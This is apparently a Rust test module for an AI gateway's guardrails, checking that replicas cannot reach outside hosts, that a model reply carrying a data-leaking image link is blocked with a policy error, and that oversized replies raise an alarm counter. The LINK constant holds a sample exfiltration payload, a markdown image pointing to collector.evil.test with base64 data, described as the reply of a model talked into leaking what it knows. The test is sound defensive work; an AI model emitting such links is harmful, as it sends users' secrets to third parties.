//! Ways by which data could leave.

use super::addresses;
use super::positive::{CHAT, chat};
use crate::case::{Case, Seen, expect};
use crate::stack::{ENVOYS, Stack};

const GROUP: &str = "exfiltration";

pub(super) const CASES: [Case; 4] = [
    Case::new(
        GROUP,
        "a replica dials what is outside its network",
        "nothing answers: other networks' containers, published ports, an address outside",
        replica_dials,
    ),
    Case::new(
        GROUP,
        "an answer with an image that carries data to a foreign host",
        "400 content_policy_violation, nothing of the link; a counter moves",
        image,
    ),
    Case::new(
        GROUP,
        "the same in a stream",
        "an error event in its place, nothing of the link",
        image_in_stream,
    ),
    Case::new(
        GROUP,
        "an answer of 70 KB where 64 is the limit",
        "it passes, and the alarm counter size.too_large moves; it does not for a short one",
        large,
    ),
];

/// An address that is kept for documentation: nothing is there.
const OUTSIDE: &str = "203.0.113.1:443";

fn replica_dials(stack: &Stack) -> Seen {
    let mut targets = addresses::of_others(stack, "replica-1", &addresses::PORTS)?;
    targets.extend(addresses::published(stack)?);
    targets.insert(OUTSIDE.to_owned(), OUTSIDE.to_owned());
    let open = addresses::open(stack, "replica-1", &targets)?;
    let is_replica = |name: &String| name.starts_with("replica-") && name.ends_with(":8000");
    let (replicas, others): (Vec<_>, Vec<_>) = open.into_iter().partition(is_replica);
    let seen = format!(
        "{} of {} targets open {others:?}, besides {} replicas of its own network",
        others.len(),
        targets.len(),
        replicas.len()
    );
    expect(others.is_empty() && replicas.len() == 5, seen)
}

/// The answer of a model that was talked into sending away what it knows.
const LINK: &str = "x-weir-reply-text: Done.%20![ok](https://collector.evil.test/p.png?d=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)";

fn counter(stack: &Stack, rule: &str) -> Result<u64, crate::error::Error> {
    let name = format!("weir_guardrail_findings_total.rule.{rule}");
    ENVOYS.iter().map(|envoy| stack.counter(envoy, &name)).sum()
}

fn image(stack: &Stack) -> Seen {
    let before = counter(stack, "exfil")?;
    let reply = chat(stack, "qwen", "Summarise the document", &[LINK])?;
    std::thread::sleep(std::time::Duration::from_millis(200));
    let moved = counter(stack, "exfil")? - before;
    let body = reply["body"].as_str().unwrap_or_default();
    let refused = body.contains("content_policy_violation") && !body.contains("evil.test");
    let seen = format!("{} {}; the counter moved by {moved}", reply["status"], body);
    expect(reply["status"] == 400 && refused && moved > 0, seen)
}

fn image_in_stream(stack: &Stack) -> Seen {
    let body = super::positive::body("qwen", "Summarise the document", true);
    let reply = stack.probe("client", &["request", CHAT, "--body", &body, "--header", LINK])?;
    let body = reply["body"].as_str().unwrap_or_default();
    let refused = body.contains("content_policy_violation") && !body.contains("evil.test");
    let last = body.trim().rsplit("\n\n").find(|event| event.contains("error")).unwrap_or(body);
    expect(refused, format!("{}: {last}", reply["status"]))
}

fn large(stack: &Stack) -> Seen {
    let ask = |bytes: usize| {
        let text = "word ".repeat(bytes / 5);
        // As it stands, for the replica would take a while for every word.
        let answer = serde_json::json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]});
        let headers = [["content-type", "application/json"]];
        let raw = serde_json::json!({"headers": headers, "body": answer.to_string()});
        let body = serde_json::json!({
            "model": "qwen", "messages": [{"role": "user", "content": "All of it"}], "weir_reply": {"raw": raw},
        });
        stack.probe("client", &["request", CHAT, "--body", &body.to_string()])
    };
    let before = counter(stack, "size.too_large")?;
    ask(6_000)?;
    std::thread::sleep(std::time::Duration::from_millis(200));
    let short = counter(stack, "size.too_large")? - before;
    let reply = ask(70_000)?;
    std::thread::sleep(std::time::Duration::from_millis(200));
    let moved = counter(stack, "size.too_large")? - before - short;
    let bytes = reply["body"].as_str().map_or(0, str::len);
    let seen = format!(
        "{}, {bytes} bytes; the counter moved by {moved}, and by {short} for 6 KB",
        reply["status"]
    );
    expect(reply["status"] == 200 && bytes > 70_000 && moved > 0 && short == 0, seen)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_address_outside_is_one_for_documentation() {
        let address: std::net::SocketAddr = OUTSIDE.parse().unwrap();
        assert!(matches!(address.ip(), std::net::IpAddr::V4(ip) if ip.is_documentation()));
    }
}
